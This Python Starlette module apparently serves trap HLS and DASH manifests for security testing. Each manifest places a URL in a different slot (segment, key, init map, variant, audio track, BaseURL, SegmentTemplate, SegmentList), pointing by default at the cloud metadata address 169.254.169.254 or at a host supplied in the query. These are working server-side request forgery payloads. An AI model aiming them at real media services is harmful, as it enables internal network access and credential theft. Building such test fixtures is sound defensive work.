"""Manifests that name another host than their own: `?host=` is where they want to lead.

`/traps/manifests/<form>`: each form is one place in an HLS or DASH manifest at which a reader would
call what it is told.
"""

from typing import Final

from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

_HLS: Final = "application/vnd.apple.mpegurl"
_DASH: Final = "application/dash+xml"
_METADATA: Final = "169.254.169.254"
_LIST: Final = "#EXTM3U\n#EXT-X-VERSION:6\n#EXT-X-TARGETDURATION:4\n"
_END: Final = "#EXT-X-ENDLIST\n"
_OWN: Final = "#EXTINF:4,\n{base}/hls/part-000.ts\n"

FORMS: Final = {
    "segment.m3u8": f"{_LIST}#EXTINF:4,\n{{inside}}/a.ts\n{_END}",
    "relative.m3u8": f"{_LIST}#EXTINF:4,\n//{{host}}/a.ts\n{_END}",
    "key.m3u8": f'{_LIST}#EXT-X-KEY:METHOD=AES-128,URI="{{inside}}/key"\n{_OWN}{_END}',
    "map.m3u8": f'{_LIST}#EXT-X-MAP:URI="{{inside}}/init.mp4"\n{_OWN}{_END}',
    "variant.m3u8": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{inside}/list.m3u8\n",
    "sound.m3u8": (
        '#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{inside}/sound.m3u8"\n'
        '#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{base}/hls/index.m3u8\n'
    ),
    "base.mpd": "<BaseURL>{inside}/film.mp4</BaseURL>",
    "template.mpd": (
        '<SegmentTemplate media="{inside}/$Number$.mp4" initialization="{inside}/init.mp4" '
        'duration="4" startNumber="1"/>'
    ),
    "list.mpd": (
        '<SegmentList duration="4"><Initialization sourceURL="{inside}/init.mp4"/>'
        '<SegmentURL media="{inside}/1.mp4"/></SegmentList>'
    ),
}


async def manifest(request: Request) -> Response:
    form = FORMS.get(request.path_params["form"])
    if form is None:
        return Response("no such form\n", status_code=404)
    host = request.query_params.get("host", _METADATA)
    base = str(request.base_url).rstrip("/")
    text = form.format(host=host, inside=f"http://{host}", base=base)
    is_dash = request.path_params["form"].endswith(".mpd")
    return Response(_mpd(text) if is_dash else text, media_type=_DASH if is_dash else _HLS)


def _mpd(what: str) -> str:
    return f"""<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT8S"
  minBufferTime="PT2S" profiles="urn:mpeg:dash:profile:isoff-main:2011">
<Period duration="PT8S"><AdaptationSet mimeType="video/mp4">
<Representation id="v" bandwidth="100000" width="640" height="360" codecs="avc1.64001e">
{what}
</Representation></AdaptationSet></Period></MPD>
"""


ROUTES: Final = [Route("/traps/manifests/{form}", manifest)]
